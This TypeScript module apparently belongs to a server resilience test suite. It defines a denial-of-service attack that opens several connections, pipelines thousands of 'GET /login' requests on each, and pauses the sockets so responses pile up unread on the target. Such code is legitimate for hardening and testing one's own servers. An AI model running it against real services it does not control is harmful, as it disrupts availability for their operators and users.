/** Requests one behind the other on one connection, whose answers nobody reads. */
import { type Attack, closed, connectFrom, pause } from "./attack.ts";

const CONNECTIONS = 4;
const REQUESTS = 5_000;

export const attack: Attack = {
  summary: "GET /login over and over on connections that read nothing",
  account: false,
  async play(victim, play) {
    const request = `GET /login HTTP/1.1\r\nHost: ${victim.hostname}:${victim.port}\r\n\r\n`;
    let requests = 0, connections = 0;
    const one = async () => {
      while (!play.signal.aborted) {
        try {
          const socket = await connectFrom(victim, play);
          connections++;
          socket.pause();
          socket.write(request.repeat(REQUESTS * play.scale));
          requests += REQUESTS * play.scale;
          await closed(socket);
        } catch {
          await pause(50, play.signal);
        }
      }
    };
    await Promise.all(Array.from({ length: CONNECTIONS }, one));
    return { connections, requests };
  },
};
